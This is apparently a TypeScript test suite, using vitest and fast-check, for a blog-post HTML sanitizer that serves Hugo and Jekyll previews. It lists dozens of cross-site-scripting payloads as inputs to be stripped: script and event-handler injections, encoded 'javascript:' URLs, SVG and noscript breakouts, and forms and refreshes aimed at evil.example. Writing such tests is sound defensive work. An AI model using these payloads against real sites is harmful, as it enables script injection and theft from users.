import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitizePost } from '../../src/render/sanitize.ts'
import { isDeep } from '../deep.ts'
import { hugo, jekyll, preview } from './site.ts'

const asIs = { image: (src: string) => src, link: (href: string) => href }
const clean = (html: string) => sanitizePost(html, asIs)

/** What may come out of a post: these tags, with these attributes, and addresses that only fetch or write mail. */
const SAFE =
  /^<\/?(h[1-6]|p|blockquote|pre|hr|br|div|section|details|summary|ul|ol|li|dl|dt|dd|table|thead|tbody|tfoot|tr|th|td|caption|a|img|figure|figcaption|code|kbd|samp|var|em|strong|b|i|u|s|del|ins|sub|sup|mark|small|abbr|q|cite|span|time)(?: (?:title|alt|width|height|start|align|colspan|rowspan)="[^"<>]*"| (?:href|src)="(?:https?:|mailto:)[^"<>]*")*(?: \/)?>$/

function unsafe(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? []
  return tags.filter((tag) => !SAFE.test(tag))
}

describe('what would run does not come out', () => {
  test.each([
    ['a script', 'a<script>alert(1)</script>b', 'ab'],
    ['one in capitals', '<SCRIPT SRC=//evil.example/x></SCRIPT>b', 'b'],
    ['one never closed', 'a<script>alert(1)', 'a'],
    ['one within another', '<scr<script>x</script>ipt>alert(1)</script>', 'xipt&gt;alert(1)'],
    ['a handler', '<img src="https://a.example/x" onerror="alert(1)">', '<img src="https://a.example/x" />'],
    ['one without quotes', '<p onclick=alert(1)>a</p>', '<p>a</p>'],
    ['one after a slash', '<img/onerror="x"/src="https://a.example/x">', '<img src="https://a.example/x" />'],
    ['a style sheet', '<style>*{display:none}</style>a', 'a'],
    ['a style', '<p style="position:fixed">a</p>', '<p>a</p>'],
    ['a class and an id', '<p class="x" id="y">a</p>', '<p>a</p>'],
    ['a data attribute', '<p data-x="1">a</p>', '<p>a</p>'],
    ['SVG', '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>', '<a>x</a>'],
    ['SVG’s own script', '<svg><script>alert(1)</script></svg>', ''],
    ['mathematics', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'x'],
    ['a base', '<base href="https://evil.example/">a', 'a'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">a', 'a'],
    ['a form', '<form action="https://evil.example"><input name="p"><button>Go</button></form>', 'Go'],
    ['a text area', '<textarea><img src=x onerror=alert(1)></textarea>a', 'a'],
    ['a link to a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">a', 'a'],
    ['an object', '<object data="https://evil.example/x.swf">a</object>', 'a'],
    ['an embedded thing', '<embed src="https://evil.example/x.swf">a', 'a'],
    ['a template', '<template><img src=x onerror=alert(1)></template>a', 'a'],
    [
      'no script, but what is in it',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
      '',
    ],
    ['a comment', 'a<!-- <img src=x onerror=alert(1)> -->b', 'ab'],
    ['a conditional one', '<!--[if IE]><script>alert(1)</script><![endif]-->b', 'b'],
    ['a frame', '<frameset><frame src="javascript:alert(1)"></frameset>a', 'a'],
    [
      'several sources',
      '<img srcset="https://evil.example/x 2x" src="https://a.example/x">',
      '<img src="https://a.example/x" />',
    ],
    [
      'a picture’s sources',
      '<picture><source srcset="https://evil.example/x"><img src="https://a.example/x"></picture>',
      '<img src="https://a.example/x" />',
    ],
    [
      'what pretends to be closed',
      '<a title="--><script>alert(1)</script>">a</a>',
      '<a title="--&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
    ],
    [
      'a target',
      '<a href="https://a.example" target="_blank" ping="https://evil.example">a</a>',
      '<a href="https://a.example">a</a>',
    ],
    [
      'Angular’s and Vue’s braces stay words',
      '<p>{{constructor.constructor("alert(1)")()}}</p>',
      '<p>{{constructor.constructor("alert(1)")()}}</p>',
    ],
  ])('%s', (_name, html, safe) => {
    expect(clean(html)).toBe(safe)
    expect(unsafe(clean(html))).toEqual([])
  })
})

describe('an address that would run is no address', () => {
  const disguises = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\tjava\nscript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;&#x61;vascript&colon;alert(1)',
    'java&Tab;script:alert(1)',
    'java&#0;script:alert(1)',
    '\u0001javascript:alert(1)',
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml;base64,PHN2Zy8+',
    'DATA:text/html;base64,PHNjcmlwdD4=',
    'blob:https://a.example/x',
    'file:///etc/passwd',
    'ftp://a.example/x',
    'view-source:https://a.example',
    '//evil.example/x',
    'javascript&#58;alert(1)',
    'feed:javascript:alert(1)',
  ]
  test.each(disguises)('%j', (address) => {
    for (const html of [
      preview(`<a href="${address}">x</a>`),
      preview(`<img src="${address}">`),
      preview(`<iframe src="${address}"></iframe>`),
      preview(`[x](<${address.replace(/[<>\n]/g, '')}>)`),
      preview(`![x](<${address.replace(/[<>\n]/g, '')}>)`, hugo),
    ]) {
      expect(unsafe(html)).toEqual([])
      expect(
        html.match(/(?:href|src)="(?!https:\/\/(?:gazette\.example|github\.com\/mairie)\/)[^"]*"/g),
      ).toBeNull()
    }
  })

  test('nor where the site’s own address would', () => {
    const site = { ...jekyll, url: 'javascript:alert(1)//' }
    expect(preview('[x](/a)', site)).toBe('<p><a>x</a></p>')
  })
})

describe('embedded media become a link', () => {
  test.each([
    [
      '<iframe src="https://video.example/1" title="Le salon"></iframe>',
      '<a href="https://video.example/1">▶ Le salon</a>',
    ],
    [
      '<video src="https://video.example/1.mp4"></video>',
      '<a href="https://video.example/1.mp4">▶ https://video.example/1.mp4</a>',
    ],
    [
      '<iframe src="https://video.example/1" title="<b>"></iframe>',
      '<a href="https://video.example/1">▶ &lt;b&gt;</a>',
    ],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<span></span>'],
    ['<iframe src="/local"></iframe>', '<span></span>'],
    [
      '<iframe src="https://video.example/1"> Sans <b>cadre</b> </iframe>',
      '<a href="https://video.example/1">▶ https://video.example/1</a>',
    ],
    [
      '<audio controls><source src="https://audio.example/1.mp3">Votre navigateur ne sait pas</audio>',
      '<a href="https://audio.example/1.mp3">▶ https://audio.example/1.mp3</a>',
    ],
    [
      '<p><video src="https://video.example/1.mp4">jamais fermé</p>Fin',
      '<p><a href="https://video.example/1.mp4">▶ https://video.example/1.mp4</a></p>Fin',
    ],
    // To browsers all that follows is its text.
    [
      '<video>Sans fichier</video><p><iframe src="https://video.example/1">jamais fermé</p>Fin',
      '<span></span><p><a href="https://video.example/1">▶ https://video.example/1</a></p>',
    ],
    [
      '<iframe src="https://video.example/1">',
      '<a href="https://video.example/1">▶ https://video.example/1</a>',
    ],
  ])('%s', (html, link) => expect(clean(html)).toBe(link))
})

test('what an author may write comes out as it is', () => {
  const kept = [
    '<h2>a</h2><p>b <em>c</em> <strong>d</strong> <del>e</del> <sub>f</sub> <kbd>g</kbd></p>',
    '<table><thead><tr><th align="left">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    '<figure><img alt="un chat" title="t" width="3" height="4" src="https://a.example/x" /><figcaption>a</figcaption></figure>',
    '<details><summary>a</summary>b</details>',
    '<ol start="3"><li>a</li></ol><dl><dt>a</dt><dd>b</dd></dl>',
    '<p><abbr title="Un">U</abbr> <a title="t" href="mailto:a@b.example">c</a></p>',
  ]
  expect(kept.map(clean)).toEqual(kept)
})

test('whatever is written, nothing dangerous comes out, in either generator and format', () => {
  const piece = fc.constantFrom(
    ...[
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      '`',
      ' ',
      '\n',
      '&',
      ';',
      '\u0000',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '{{',
      '}}',
      '{%',
      '%}',
      '{:',
      '}',
    ],
    ...[
      'script',
      '<script',
      'svg',
      '<svg',
      'style',
      '<style>',
      'img',
      '<img',
      ' src=',
      ' href=',
      ' onerror=',
      'javascript:',
      'data:',
      '<a',
      '<p',
      '<math',
    ],
    ...[
      '](',
      '![',
      '[',
      '&lt;',
      '&#106;',
      '<title>',
      '<textarea>',
      '<template>',
      '<noscript>',
      '<iframe',
      '{{< x >}}',
      '\uE000',
    ],
  )
  const text = fc
    .array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 25 })
    .map((all) => all.join(''))
  fc.assert(
    fc.property(text, (body) => {
      const all = [
        preview(body),
        preview(body, hugo),
        preview(body, { ...hugo, config: { markup: { goldmark: { renderer: { unsafe: true } } } } }),
        preview(body, jekyll, '_posts/a.html'),
      ]
      expect(all.flatMap(unsafe)).toEqual([])
      expect(all.join('')).not.toContain('\uE000')
    }),
    { numRuns: isDeep ? 1500 : 300 },
  )
})

test('an image that is not loaded is a link, and within a link its words alone', () => {
  const elsewhere = {
    image: () => undefined,
    link: (href: string) => href,
    insteadOfImage: (src: string) => ({ href: src, text: 'Plan' }),
  }
  const image = '<img src="https://a.example/x">'
  expect(sanitizePost(`${image}<a href="https://b.example">${image}</a>${image}`, elsewhere)).toBe(
    '<a href="https://a.example/x">Plan</a><a href="https://b.example"><span>Plan</span></a><a href="https://a.example/x">Plan</a>',
  )
})
